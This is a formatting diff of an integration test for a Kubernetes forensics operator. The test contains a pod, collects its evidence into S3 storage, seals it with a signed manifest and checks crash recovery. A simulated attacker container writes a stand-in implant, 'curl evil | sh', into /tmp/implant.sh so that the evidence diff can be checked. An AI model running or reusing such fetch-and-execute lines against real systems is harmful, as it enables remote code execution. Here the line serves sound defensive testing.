@@ -17,7 +17,10 @@ import { Workloads, type CaseView } from '../../testenv/workload.js';
 import { createPod, createSigningKeySecret, markRunning, objectVersions } from './helpers.js';
 
 type SealedView = CaseView & {
-  status?: CaseView['status'] & { manifest?: { uri: string; sha256: string }; artifacts?: { name: string; sha256: string }[] };
+  status?: CaseView['status'] & {
+    manifest?: { uri: string; sha256: string };
+    artifacts?: { name: string; sha256: string }[];
+  };
 };
 
 /**
@@ -33,11 +36,20 @@ describe('inline collection: contained -> collected -> sealed', () => {
   let publicKeyPem: string;
   let operator: Awaited<ReturnType<typeof startCaseController>>;
   const node = 'node-real';
-  const store = () => new S3EvidenceStore({ client: minio.client(), bucket: minio.bucket, prefix: 'amber', registry: createRegistry() });
+  const store = () =>
+    new S3EvidenceStore({
+      client: minio.client(),
+      bucket: minio.bucket,
+      prefix: 'amber',
+      registry: createRegistry(),
+    });
   const caseSpec = (pod: string) => ({
     target: { namespace: 'shop', pod },
     reason: 'test: file dropped in /tmp',
-    evidence: { store: { type: 's3', bucket: minio.bucket, endpoint: minio.endpoint, prefix: 'amber/' }, retention: { mode: 'GOVERNANCE', days: 1 } },
+    evidence: {
+      store: { type: 's3', bucket: minio.bucket, endpoint: minio.endpoint, prefix: 'amber/' },
+      retention: { mode: 'GOVERNANCE', days: 1 },
+    },
   });
   const startOperator = async (afterStep?: (s: string) => void) =>
     startCaseController(await operatorKubeConfig(cluster), {
@@ -56,13 +68,21 @@ describe('inline collection: contained -> collected -> sealed', () => {
       startCluster(),
       startMinio(),
       // Attacker-like: drops a script in /tmp and keeps running.
-      startContainer({ command: ['/bin/sh', '-c', 'printf "curl evil | sh\\n" > /tmp/implant.sh; touch /ready; exec sleep 600'] }),
+      startContainer({
+        command: [
+          '/bin/sh',
+          '-c',
+          'printf "curl evil | sh\\n" > /tmp/implant.sh; touch /ready; exec sleep 600',
+        ],
+      }),
     ]);
     await c.waitForFile('/ready');
     const admin = cluster.kubeConfig();
     await installCrds(admin);
     w = new Workloads(admin);
-    await w.core.createNode({ body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } } });
+    await w.core.createNode({
+      body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } },
+    });
     await w.namespace('shop');
     await w.core.createNamespacedServiceAccount({ namespace: 'shop', body: { metadata: { name: 'web' } } });
     await operatorKubeConfig(cluster); // the operator namespace and RBAC, before the Secret
@@ -87,7 +107,14 @@ describe('inline collection: contained -> collected -> sealed', () => {
     console.log(`inline: ForensicCase created -> Sealed in ${((Date.now() - started) / 1000).toFixed(2)} s`);
 
     const actions = (kase.status?.timeline ?? []).map((e) => e.action);
-    expect(actions).toEqual(['IsolateNetwork', 'LabelPod', 'ContainNode', 'CollectOrchestrator', 'CollectEvidence', 'SealEvidence']);
+    expect(actions).toEqual([
+      'IsolateNetwork',
+      'LabelPod',
+      'ContainNode',
+      'CollectOrchestrator',
+      'CollectEvidence',
+      'SealEvidence',
+    ]);
     const collected = kase.status?.conditions?.find((x) => x.type === 'EvidenceCollected');
     expect(collected).toMatchObject({ status: 'True', reason: 'Collected' });
     expect(collected?.message).toMatch(/^1 of 1 containers collected/);
@@ -96,7 +123,12 @@ describe('inline collection: contained -> collected -> sealed', () => {
     const location = s.caseLocation('case-inline');
     const report = await verifyCase(location, {
       publicKeyPem,
-      s3: { endpoint: minio.endpoint, region: minio.region, forcePathStyle: true, credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
+      s3: {
+        endpoint: minio.endpoint,
+        region: minio.region,
+        forcePathStyle: true,
+        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
+      },
     });
     expect(report.artifacts.filter((a) => a.status !== 'ok')).toEqual([]);
     expect(report.ok).toBe(true);
@@ -104,18 +136,36 @@ describe('inline collection: contained -> collected -> sealed', () => {
 
     const names = (kase.status?.artifacts ?? []).map((a) => a.name);
     const short = c.id.slice(0, 12);
-    for (const n of ['pod.yaml', 'events.yaml', 'serviceaccount.yaml', 'rbac.yaml', 'node.yaml', 'report.json']) expect(names).toContain(`orchestrator/${n}`);
-    for (const n of ['processes.json', 'network.json', 'filesystem/diff.json', 'filesystem/writable-layer.tar', 'report.json'])
+    for (const n of [
+      'pod.yaml',
+      'events.yaml',
+      'serviceaccount.yaml',
+      'rbac.yaml',
+      'node.yaml',
+      'report.json',
+    ])
+      expect(names).toContain(`orchestrator/${n}`);
+    for (const n of [
+      'processes.json',
+      'network.json',
+      'filesystem/diff.json',
+      'filesystem/writable-layer.tar',
+      'report.json',
+    ])
       expect(names).toContain(`containers/${short}/${n}`);
     expect(names).not.toContain(MANIFEST_NAME);
 
     const diff = await readText(s, 'case-inline', `containers/${short}/filesystem/diff.json`);
-    expect(JSON.parse(diff).changes).toEqual(expect.arrayContaining([expect.objectContaining({ path: '/tmp/implant.sh', kind: 'A' })]));
+    expect(JSON.parse(diff).changes).toEqual(
+      expect.arrayContaining([expect.objectContaining({ path: '/tmp/implant.sh', kind: 'A' })]),
+    );
     const podYaml = await readText(s, 'case-inline', 'orchestrator/pod.yaml');
     expect(podYaml).toContain(`runc://${c.id}`);
     expect(podYaml).toContain('forensics.amber.io/quarantined'); // as read at collection time, after containment
     // No kubelet serves this node's logs: the gap is recorded, the rest went on.
-    const orch = JSON.parse(await readText(s, 'case-inline', 'orchestrator/report.json')) as { gaps: { what: string }[] };
+    const orch = JSON.parse(await readText(s, 'case-inline', 'orchestrator/report.json')) as {
+      gaps: { what: string }[];
+    };
     expect(orch.gaps.map((g) => g.what)).toContain('logs of main (current)');
 
     const manifest = (await s.list('case-inline')).find((a) => a.name === MANIFEST_NAME);
@@ -124,10 +174,20 @@ describe('inline collection: contained -> collected -> sealed', () => {
 
   it('a pass after Sealed writes nothing new', async () => {
     const before = await objectVersions(minio.client(), minio.bucket, 'amber/case-inline/');
-    const passes = async () => (await (operator.registry.getSingleMetric('amber_reconcile_total') as Counter).get()).values.reduce((n, v) => n + v.value, 0);
+    const passes = async () =>
+      (await (operator.registry.getSingleMetric('amber_reconcile_total') as Counter).get()).values.reduce(
+        (n, v) => n + v.value,
+        0,
+      );
     const seen = await passes();
     await w.custom.patchClusterCustomObject(
-      { group: GROUP, version: VERSION, plural: 'forensiccases', name: 'case-inline', body: { metadata: { annotations: { poke: '1' } } } },
+      {
+        group: GROUP,
+        version: VERSION,
+        plural: 'forensiccases',
+        name: 'case-inline',
+        body: { metadata: { annotations: { poke: '1' } } },
+      },
       setHeaderOptions('Content-Type', PatchStrategy.MergePatch),
     );
     await waitFor('another reconcile pass', passes, (n) => n > seen);
@@ -145,11 +205,17 @@ describe('inline collection: contained -> collected -> sealed', () => {
       }
     });
     await w.createCase('case-crash', caseSpec('victim-crash'));
-    await waitFor('crash at seal', async () => crashed, (x) => x, 90_000);
+    await waitFor(
+      'crash at seal',
+      async () => crashed,
+      (x) => x,
+      90_000,
+    );
     await doomed.stop();
     const afterCrash = await w.getCase('case-crash');
     expect(afterCrash.status?.phase).not.toBe('Sealed');
-    const manifestVersions = () => objectVersions(minio.client(), minio.bucket, `amber/case-crash/${MANIFEST_NAME}`);
+    const manifestVersions = () =>
+      objectVersions(minio.client(), minio.bucket, `amber/case-crash/${MANIFEST_NAME}`);
     const first = await manifestVersions();
     expect(first).toHaveLength(1);
 
@@ -158,7 +224,9 @@ describe('inline collection: contained -> collected -> sealed', () => {
     expect(await manifestVersions()).toEqual(first);
     const manifest = (await store().list('case-crash')).find((a) => a.name === MANIFEST_NAME);
     expect(kase.status?.manifest?.sha256).toBe(manifest?.sha256);
-    expect(kase.status?.conditions?.find((x) => x.type === 'EvidenceSealed')?.message).toMatch(/sealed by an earlier pass/);
+    expect(kase.status?.conditions?.find((x) => x.type === 'EvidenceSealed')?.message).toMatch(
+      /sealed by an earlier pass/,
+    );
     expect((kase.status?.timeline ?? []).filter((e) => e.action === 'SealEvidence')).toHaveLength(1);
   });
 });
